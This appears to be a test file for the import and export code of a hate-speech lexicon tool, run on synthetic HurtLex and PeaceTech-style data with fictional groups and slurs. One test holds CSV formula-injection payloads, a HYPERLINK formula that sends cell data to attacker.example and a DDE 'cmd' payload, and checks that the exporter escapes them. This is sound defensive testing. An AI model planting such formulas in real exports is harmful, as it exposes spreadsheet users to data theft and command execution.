/** Lexicon import/export formats on synthetic files (never real HurtLex or PeaceTech data). */
import fs from 'node:fs';
import path from 'node:path';
import { analyzePage, compileLexicon } from '../../src/analyze';
import { loadLexicon } from '../../src/lexicon';
import { entriesToCsv, exportLexicon, LexiconImportError, parseImport, type ImportFormat, type LineError } from '../../src/lexicon/formats';
import { entry, lexiconData, TARGETS } from '../analyze/fixtures/lexicon';

const fixture = (name: string): string => fs.readFileSync(path.join(__dirname, 'fixtures', name), 'utf8');

function importErrors(format: ImportFormat, text: string, options = {}): LineError[] {
  try {
    parseImport(format, text, options);
  } catch (error) {
    if (error instanceof LexiconImportError) return error.errors;
    throw error;
  }
  throw new Error('expected the import to fail');
}

describe('our JSON and CSV', () => {
  it('round-trips the whole starter lexicon through CSV unchanged', () => {
    const starter = loadLexicon();
    const back = parseImport('csv', entriesToCsv(starter.entries));
    expect(back.entries).toHaveLength(starter.entries.length);
    expect(back.entries).toEqual(starter.entries.map((e) => JSON.parse(JSON.stringify(e))));
  });
  it('round-trips JSON with targets', () => {
    const data = lexiconData();
    const back = parseImport('json', exportLexicon(data, 'json'));
    expect(back.entries).toEqual(data.entries);
    expect(back.targets).toEqual(data.targets);
  });
  it('keeps commas, quotes and line breaks inside CSV fields', () => {
    const e = entry({ id: 'en.q', lang: 'en', terms: ['vermin', 'pest*'], category: 'DH.ANIMAL', severity: 3, meaning: 'a "pest", said of people,\nover two lines' });
    const back = parseImport('csv', entriesToCsv([e]));
    expect(back.entries[0]).toEqual(e);
  });
  it('writes formula-like cells so a spreadsheet shows them as text, and reads them back exactly', () => {
    const e = entry({
      id: 'en.formula', lang: 'en', terms: ['vermin'], category: 'DH.ANIMAL', severity: 3,
      meaning: '=HYPERLINK("http://attacker.example/?"&A1,"open")', whyHarmful: "+cmd|' /C calc'!A0",
      source: { type: 'curator', ref: '@SUM(1+1)', citation: "'-already quoted" },
    });
    const csv = entriesToCsv([e]);
    const cells = csv.split('\n')[1]!;
    expect(cells).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")"`);
    expect(cells).toContain(`'+cmd|' /C calc'!A0`);
    expect(cells).toContain(`'@SUM(1+1)`);
    expect(cells).toContain(`''-already quoted`);
    // No cell of the row starts with a formula character.
    expect(cells.split(',').filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
    expect(parseImport('csv', csv).entries[0]).toEqual(e);
  });
  it('reports every bad CSV row with its line number and imports nothing', () => {
    const good = entriesToCsv([entry({ id: 'en.a', lang: 'en', terms: ['vermin'], category: 'DH.ANIMAL', severity: 3 })]);
    const [header, row] = good.trim().split('\n');
    const text = [header, row, row!.replace('en.a', 'en.b').replace('DH.ANIMAL', 'DH.NOPE'), row!.replace('en.a', 'en.c').replace(',3,', ',9,')].join('\n');
    const errors = importErrors('csv', text);
    expect(errors.map((e) => e.line)).toEqual([3, 4]);
    expect(errors[0]!.message).toMatch(/category/u);
    expect(errors[1]!.message).toMatch(/severity/u);
  });
  it('names the JSON line of a bad entry', () => {
    const text = JSON.stringify({ id: 'x', version: '1', name: 'x', entries: [entry({ id: 'en.ok', lang: 'en', terms: ['vermin'], category: 'DH.ANIMAL', severity: 3 }), { id: 'en.bad', lang: 'en' }], targets: [] }, null, 2);
    const errors = importErrors('json', text);
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toMatch(/en\.bad/u);
    expect(text.split('\n')[errors[0]!.line - 1]).toContain('"en.bad"');
    expect(importErrors('json', '{"entries": [\n  {"id": 1,\n}')[0]!.message).toMatch(/invalid JSON/u);
  });
  it('rejects terms that cannot compile (a lone stem that is too short)', () => {
    const e = entry({ id: 'en.short', lang: 'en', terms: ['ra*'], category: 'DH.ANIMAL', severity: 3 });
    expect(importErrors('json', JSON.stringify([e]))[0]!.message).toMatch(/stem shorter/u);
  });
});

describe('HurtLex TSV', () => {
  it('imports mapped categories as draft predicates, rci as target groups, and reports skipped rows', () => {
    const r = parseImport('hurtlex', fixture('hurtlex-synthetic-en.tsv'), { lang: 'en' });
    expect(r.entries.map((e) => [e.id, e.category, e.status, e.severity])).toEqual([
      ['hurtlex.en.EN9001', 'DH.ANIMAL', 'draft', 3],
      ['hurtlex.en.EN9002', 'NE.SLUR', 'draft', 3],
      ['hurtlex.en.EN9005', 'NE.ESSENCE', 'draft', 2],
    ]);
    expect(r.entries.every((e) => e.source.type === 'import' && e.lang === 'en')).toBe(true);
    expect(r.targets).toEqual([expect.objectContaining({ id: 'hurtlex.en.EN9003', terms: [{ lang: 'en', kind: 'demonym', terms: ['tarvani'] }] })]);
    expect(r.skipped).toEqual([{ line: 5, message: expect.stringMatching(/"asm"/u) }]);
    // The imported data works: the rci group is a target for the imported predicate.
    const lex = compileLexicon({ id: 'h', version: '1', name: 'h', entries: r.entries, targets: r.targets });
    expect(analyzePage('The Tarvani are vermin.', lex, { lang: 'en' }).flags.map((f) => f.exact)).toEqual(['vermin']);
  });
  it('gives line-numbered errors for a bad file and needs the language', () => {
    const errors = importErrors('hurtlex', fixture('hurtlex-bad.tsv'), { lang: 'en' });
    expect(errors.map((e) => e.line)).toEqual([3, 4]);
    expect(errors[0]!.message).toMatch(/stereotype/u);
    expect(errors[1]!.message).toMatch(/columns/u);
    expect(importErrors('hurtlex', fixture('hurtlex-synthetic-en.tsv'))[0]!.message).toMatch(/lang/u);
    expect(importErrors('hurtlex', 'id\tlemma\nX\ty\n', { lang: 'en' })[0]).toEqual({ line: 1, message: expect.stringMatching(/missing column.*pos/u) });
  });
});

describe('PeaceTech-shaped CSV', () => {
  it('imports terms as draft standalone slurs keeping meaning, why offensive and the notes', () => {
    const r = parseImport('peacetech', fixture('peacetech-synthetic.csv'));
    expect(r.entries).toHaveLength(2);
    const [en, tr] = r.entries;
    expect(en).toMatchObject({
      lang: 'en', terms: ['reedfolk'], status: 'draft', role: 'standalone', category: 'NE.SLUR',
      meaning: 'Label for Tarvani herders living near Lake Vessa',
      source: { type: 'import', ref: 'PeaceTech Lab lexicon, p. 12' },
      notes: { alternatives: 'Tarvani', context: 'Used in leaflets, often with "go back" slogans', country: 'Kestrel Valley (fictional)', period: '2019-2021' },
    });
    expect(tr).toMatchObject({ lang: 'tr', terms: ['kumbaş'] });
    const lex = compileLexicon({ id: 'p', version: '1', name: 'p', entries: r.entries, targets: TARGETS });
    expect(analyzePage('Kumbaşlar geri gitsin.', lex, { lang: 'tr' }).flags).toEqual([]); // exact term only, no stem
    expect(analyzePage('Those reedfolk again.', lex, { lang: 'en' }).flags.map((f) => f.exact)).toEqual(['reedfolk']);
  });
  it('reports every bad row, including an unterminated quote, and imports nothing', () => {
    const errors = importErrors('peacetech', fixture('peacetech-bad.csv'));
    expect(errors.map((e) => e.line)).toEqual([3, 4]);
    expect(errors[0]!.message).toMatch(/term/u);
    expect(errors[1]!.message).toMatch(/unterminated/u);
  });
});
